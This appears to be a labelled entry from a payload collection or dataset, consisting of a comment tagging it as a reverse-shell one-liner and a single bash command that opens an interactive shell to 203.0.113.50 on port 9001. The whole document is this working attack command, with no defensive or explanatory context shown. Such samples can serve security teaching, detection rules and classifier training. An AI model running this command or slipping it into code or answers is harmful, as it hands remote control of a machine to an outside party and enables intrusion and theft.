# class: reverse shell; style: one-liner
bash -i >& /dev/tcp/203.0.113.50/9001 0>&1
